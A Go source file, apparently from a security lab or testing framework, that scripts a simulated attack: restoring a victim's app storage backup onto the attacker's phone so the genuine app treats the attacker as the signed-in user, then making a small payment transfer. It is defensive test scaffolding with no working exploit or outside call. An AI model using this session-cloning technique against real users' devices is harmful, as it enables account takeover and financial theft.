package attacker

import (
	"context"
	"fmt"

	"keyladder/stages/catalog"
)

// backupRestore puts a copy of what the app stores on the victim's phone into the genuine app
// on the attacker's own phone. There is nothing to take out of it, to understand or to sign:
// the app makes its calls as it always does, and takes who is signed in from its storage.
//
//keyladder:code attack-backup-restore
func backupRestore(ctx context.Context, g *Given) (Result, error) {
	d, err := g.NewDevice(ctx)
	if err != nil {
		return Result{}, fmt.Errorf("get a phone: %w", err)
	}
	p := &phone{g: g, device: d}
	defer p.close()
	installed, err := d.Install(g.Package)
	if err != nil {
		return Result{}, fmt.Errorf("install the package: %w", err)
	}
	if err := d.Restore(installed.Name, g.Storage); err != nil {
		return Result{}, fmt.Errorf("put the copy into the app's storage: %w", err)
	}
	g.Say("Installed the genuine app on our own phone, and put the copy of the victim's storage into its own: %d items.", len(g.Storage))
	if p.app, err = d.Launch(ctx, installed.Name, g.Stage.Slug); err != nil {
		return Result{}, fmt.Errorf("start the app: %w", err)
	}
	home, err := p.app.Home(ctx)
	if err != nil {
		return Result{}, fmt.Errorf("use the app: %w", err)
	}
	if home.User == "" {
		return Result{Check: catalog.CheckNotStored, Obstacle: "the app finds nobody in its storage who is signed in"}, nil
	}
	g.Say("Started it: it takes us for %s.", home.User)
	payment, err := p.payment(ctx, pittance)
	if err != nil {
		return stopped(err)
	}
	if _, err := shown(p.app.Transfer(ctx, payment)); err != nil {
		return stopped(err)
	}
	g.Say("Transferred %d minor units from %s to %s with it.", payment.Amount, payment.From, payment.To)
	return Result{Claim: true}, nil
}
